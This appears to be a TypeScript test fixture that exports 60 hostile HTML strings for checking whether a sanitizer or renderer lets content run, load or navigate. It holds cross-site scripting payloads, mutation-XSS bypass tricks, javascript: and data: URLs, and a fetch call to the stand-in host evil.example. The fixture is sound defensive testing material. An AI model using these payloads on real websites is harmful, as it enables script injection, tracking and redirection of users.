/** HTML that tries to run, load or navigate something where it is shown. `CALL` would reveal it. */
const CALL = "top.__ran=(top.__ran||0)+1;fetch('https://evil.example/ran')";
const AWAY = 'https://evil.example/x';

const scripts = [
  `<script>${CALL}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/xss>${CALL}</script>`,
  `<noscript><p title="</noscript><script>${CALL}</script>">`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<template><script>${CALL}</script></template>`,
  `<textarea><script>${CALL}</script></textarea>`,
  `<title><script>${CALL}</script></title>`,
  `<style><script>${CALL}</script></style>`,
];

const handlers = [
  'onerror src=x',
  'onload src=data:image/gif;base64,R0lGODlhAQABAAAAACw=',
  'onmouseover',
  'onfocus autofocus tabindex=1',
  'onanimationstart style="animation:x"',
  'onpointerenter',
  'ontoggle open',
  'onbegin',
].map((attribute) => {
  const [event, ...rest] = attribute.split(' ');
  return `<img ${rest.join(' ')} ${event}="${CALL}">`;
});

const elements = [
  `<body onload="${CALL}">`,
  `<details open ontoggle="${CALL}"><summary>x</summary></details>`,
  `<video><source onerror="${CALL}"></video>`,
  `<audio src=x onerror="${CALL}"></audio>`,
  `<svg onload="${CALL}"></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s></svg>`,
  `<marquee onstart="${CALL}">x</marquee>`,
  `<input autofocus onfocus="${CALL}">`,
  `<select autofocus onfocus="${CALL}"></select>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<frameset onload="${CALL}"><frame src="${AWAY}"></frameset>`,
  `<portal src="${AWAY}"></portal>`,
];

const loads = [
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 1x">`,
  `<picture><source srcset="${AWAY}.png"><img></picture>`,
  `<img src="//evil.example/x.png">`,
  `<input type=image src="${AWAY}.png">`,
  `<table background="${AWAY}.png"><tr><td>x</td></tr></table>`,
  `<div style="background:url(${AWAY}.png)">x</div>`,
  `<style>@import url(${AWAY}.css); body{background:url(${AWAY}.png)}</style>`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<link rel=prefetch href="${AWAY}">`,
  `<link rel=dns-prefetch href="//evil.example">`,
  `<video src="${AWAY}.mp4" poster="${AWAY}.png" autoplay></video>`,
  `<svg><image href="${AWAY}.png"></image></svg>`,
  `<svg><use href="${AWAY}.svg#x"></use></svg>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}.woff)}p{font-family:x}</style><p>x</p>`,
];

const navigations = [
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://evil.example/">`,
  `<base target="_top"><a href="${AWAY}">x</a>`,
  `<form action="${AWAY}" id=f><button>x</button></form><input form=f type=submit autofocus>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="JaVaScRiPt&#58;${CALL}">x</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
  `<a href="vbscript:${CALL}">x</a>`,
];

/** 60 of them. */
export const hostileHtml: string[] = [...scripts, ...handlers, ...elements, ...loads, ...navigations];
